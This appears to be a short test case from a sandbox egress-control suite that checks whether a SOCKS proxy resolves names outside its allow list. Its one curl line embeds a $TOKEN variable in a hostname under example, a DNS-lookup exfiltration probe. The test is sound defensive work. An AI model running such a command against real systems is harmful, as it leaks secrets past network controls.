# title: has the proxy look up a name through SOCKS
# harm: reaches
# egress: public.example:80
# B: no network at all
# C: the proxy looks up only what the list covers
if [ -n "$ALL_PROXY" ]; then curl -s -m 3 -x "$ALL_PROXY" "http://$TOKEN.example/"; else curl -s -m 3 "http://$TOKEN.example/"; fi
